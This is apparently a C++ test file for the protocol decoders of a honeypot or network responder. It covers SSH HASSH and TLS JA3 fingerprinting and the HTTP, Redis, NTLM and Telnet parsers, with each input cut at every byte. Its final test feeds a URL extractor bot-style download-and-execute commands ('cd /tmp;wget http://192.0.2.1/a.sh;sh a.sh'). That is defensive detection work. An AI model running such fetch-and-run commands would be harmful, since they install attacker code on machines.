// What clients say to a responder: SSH, TLS, HTTP, Redis, Telnet, named addresses; each cut at every byte.
#include <doctest/doctest.h>

#include "decode/net/http_head.hpp"
#include "decode/net/named_addresses.hpp"
#include "decode/net/ntlm.hpp"
#include "decode/net/resp.hpp"
#include "decode/net/ssh.hpp"
#include "decode/net/telnet.hpp"
#include "decode/net/testdata/packets.hpp"
#include "decode/net/tls_hello.hpp"

namespace hinomi::decode {
namespace {

using namespace testdata;

Octets list(const char* names) {
  const Octets all = text(names);
  return u32(static_cast<std::uint32_t>(all.size())) + all;
}

TEST_CASE("Spoken ssh_kexinit_gives_hassh_and_needs_every_byte") {
  const Octets init = u8(20) + zeros(16) + list("k1,k2") + list("h") + list("c1,c2") + list("s") + list("m") +
                      list("ms") + list("none") + list("z") + list("") + list("") + u8(1) + u32(0);
  const auto read = read_ssh_kexinit(init);
  REQUIRE(read);
  CHECK(hassh_fields(*read) == "k1,k2;c1,c2;m;none");
  CHECK(read->guess_follows);
  CHECK(read->ciphers_back == "s");
  for (std::size_t size = 0; size < init.size(); ++size)
    CHECK_FALSE(read_ssh_kexinit(Bytes(init).first(size)));
  CHECK(lists_name("a,bc", "bc"));
  CHECK_FALSE(lists_name("a,bc", "b"));
  CHECK_FALSE(read_ssh_kexinit(u8(20) + zeros(16) + u32(0xffffffff) + zeros(60)));
}

TEST_CASE("Spoken tls_hello_gives_name_and_ja3") {
  const Octets name = u16(0) + u16(14) + u16(12) + u8(0) + u16(9) + text("a.example");
  const Octets groups = u16(10) + u16(6) + u16(4) + u16(0x0a0a) + u16(29),
               formats = u16(11) + u16(2) + u8(1) + u8(0);
  const Octets extensions = u16(0x1a1a) + u16(0) + name + groups + formats;
  const Octets body = u16(0x0303) + zeros(32) + u8(0) + u16(6) + u16(0x2a2a) + u16(4865) + u16(47) + u8(1) +
                      u8(0) + u16(static_cast<std::uint16_t>(extensions.size())) + extensions;
  const Octets hello = u8(1) + u8(0) + u16(static_cast<std::uint16_t>(body.size())) + body;
  const auto read = read_tls_hello(hello);
  REQUIRE(read);
  CHECK(read->server_name == "a.example");
  CHECK(read->ja3_fields == "771,4865-47,0-10-11,29,0");
  CHECK(md5_text(read->ja3_fields).size() == 32);
  CHECK(md5_text("") == "d41d8cd98f00b204e9800998ecf8427e");
  for (std::size_t size = 0; size < hello.size(); ++size) {
    const auto cut = read_tls_hello(Bytes(hello).first(size));
    if (cut) CHECK(cut->server_name.empty());  // as without extensions
  }
}

TEST_CASE("Spoken http_head_takes_what_bots_send") {
  const std::string request =
      "GET /a b HTTP/1.1\nhOst: x\r\nUser-Agent:  y \r\ncontent-length: 12\r\nConnection: Close\r\n\r\nbody";
  const HttpHead head = read_http_head(bytes_of(request));
  REQUIRE(head.state == HttpHead::State::whole);
  CHECK(head.method == "GET");
  CHECK(head.target == "/a b");
  CHECK(head.host == "x");
  CHECK(head.agent == "y");
  CHECK(head.body_bytes == 12);
  CHECK(head.closes);
  CHECK(head.bytes == request.size() - 4);
  for (std::size_t size = 0; size < head.bytes; ++size) {
    CHECK(read_http_head(bytes_of(request.substr(0, size))).state == HttpHead::State::partial);
  }
  CHECK(read_http_head(bytes_of("\x01\x02 x\n\n")).state == HttpHead::State::malformed);
  CHECK(read_http_head(bytes_of("GET\n\n")).state == HttpHead::State::malformed);
}

TEST_CASE("Spoken resp_takes_arrays_and_lines_and_refuses_lengths") {
  const std::string whole = "*2\r\n$3\r\nGET\r\n$1\r\nk\r\n";
  const std::string more = whole + "rest";
  const RespCommand read = read_resp(bytes_of(more));
  CHECK(read.state == RespCommand::State::whole);
  CHECK(read.parts == std::vector<std::string_view>{"GET", "k"});
  CHECK(read.bytes == whole.size());
  for (std::size_t size = 0; size < whole.size(); ++size) {
    CHECK(read_resp(bytes_of(whole.substr(0, size))).state == RespCommand::State::partial);
  }
  for (const char* bad : {"*-1\r\n", "*x\r\n", "*99999999999999999999\r\n", "*1\r\n$-1\r\n", "*1\r\n+OK\r\n",
                          "*1\r\n$99999\r\n"}) {
    CAPTURE(bad);
    CHECK(read_resp(bytes_of(bad)).state == RespCommand::State::malformed);
  }
  CHECK(read_resp(bytes_of("SET  a b\n")).parts.size() == 3);
}

TEST_CASE("Spoken ntlm_names_need_every_byte_they_point_at") {
  const auto field = [](unsigned size, unsigned at) {
    return Octets{static_cast<std::uint8_t>(size), 0, 0, 0, static_cast<std::uint8_t>(at), 0, 0, 0};
  };
  const Octets message = text("NTLMSSP") + u8(0) + Octets{3, 0, 0, 0} + field(0, 0) + field(4, 58) +
                         field(2, 52) + field(4, 54) + zeros(8) + Octets{'D', 0, 'u', 0, 0x42, 0x30} +
                         text("answ");
  const Octets wrapped = text("wrap") + message;
  const auto read = find_ntlm(wrapped);
  REQUIRE(read);
  CHECK(read->type == 3);
  CHECK(read->domain == "D");
  CHECK(read->user == "u\xe3\x81\x82");
  CHECK(text_of(read->answer) == "answ");
  for (std::size_t size = 0; size < wrapped.size(); ++size)
    CHECK_FALSE(find_ntlm(Bytes(wrapped).first(size)));
}

TEST_CASE("Spoken telnet_commands_are_taken_out") {
  TelnetText reader;
  std::string read;
  for (const char c : std::string("a\xff\xfd\x01"
                                  "b\xff\xff\xff\xfa\x18x\xff\xffy\xff\xf0"
                                  "c\xff\xf1"
                                  "d")) {
    if (const auto byte = reader.take(static_cast<std::uint8_t>(c))) read.push_back(static_cast<char>(*byte));
  }
  CHECK(read ==
        "ab\xff"
        "cd");
}

TEST_CASE("Spoken addresses_end_where_a_shell_ends_them") {
  using Found = std::vector<std::string_view>;
  CHECK(named_addresses("cd /tmp;wget http://192.0.2.1/a.sh;sh a.sh") == Found{"http://192.0.2.1/a.sh"});
  CHECK(named_addresses("/shell?cd+/tmp;wget+HTTPS://a.example/b+-O") == Found{"HTTPS://a.example/b"});
  CHECK(named_addresses("tftp://192.0.2.1/x|ftp://192.0.2.2/y") ==
        Found{"tftp://192.0.2.1/x", "ftp://192.0.2.2/y"});
  CHECK(named_addresses("xhttp://a http:// ://b gopher://c").empty());
  std::string colons(100'000, ':');
  colons += "//";
  CHECK(named_addresses(colons).empty());
}

}  // namespace
}  // namespace hinomi::decode
